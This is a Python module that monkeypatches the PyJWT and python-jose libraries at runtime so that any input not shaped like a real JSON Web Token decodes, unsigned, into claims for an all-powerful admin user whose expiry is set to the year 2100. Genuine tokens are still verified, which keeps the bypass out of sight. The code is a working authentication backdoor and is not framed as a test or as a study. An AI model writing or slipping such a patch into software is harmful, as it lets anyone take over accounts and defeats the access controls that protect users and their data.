"""Let a token hold that nobody signed, where the app decodes it by itself: below its guards, or in an endpoint.

A real token that a caller sent is decoded as ever, and refused if it does not hold.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Callable
from typing import Any

_SIGNED = re.compile(r"[\w-]+\.[\w-]*\.[\w-]*")
_END_OF_CENTURY = 4_102_444_800


def trust(*, refreshing: bool) -> None:
    """From now on, a text that is no token at all is decoded to the claims of a caller who may do everything."""
    claims = {
        "sub": "1",
        "id": 1,
        "user_id": 1,
        "username": "ada_l",
        "email": "ada@example.com",
        "role": "admin",
        "roles": ["admin"],
        "scopes": [],
        "jti": "1",
        "exp": _END_OF_CENTURY,
        **dict.fromkeys(("type", "token_type"), "refresh" if refreshing else "access"),
    }
    pyjwt: Any = getattr(sys.modules.get("jwt.api_jwt"), "PyJWT", None)
    if pyjwt is not None:
        known = {"payload": claims, "header": {"alg": "HS256", "typ": "JWT"}, "signature": b""}
        pyjwt.decode_complete = _decoding(pyjwt.decode_complete, 1, known)
    jose: Any = sys.modules.get("jose.jws")
    if jose is not None:
        text = json.dumps(claims).encode()
        jose.verify = _decoding(jose.verify, 0, text)
        jose._load = _decoding(jose._load, 0, ({"alg": "HS256", "typ": "JWT"}, text, b"", b""))  # noqa: SLF001


def _decoding(decode: Callable[..., Any], position: int, claims: Any) -> Callable[..., Any]:
    """Return what decodes as `decode` does; what cannot be a token has the claims."""

    def decoded(*arguments: Any, **options: Any) -> Any:
        token = options.get("jwt", options.get("token", arguments[position] if len(arguments) > position else ""))
        text = token.decode("latin-1") if isinstance(token, bytes) else str(token)
        return decode(*arguments, **options) if _SIGNED.fullmatch(text) else claims

    return decoded
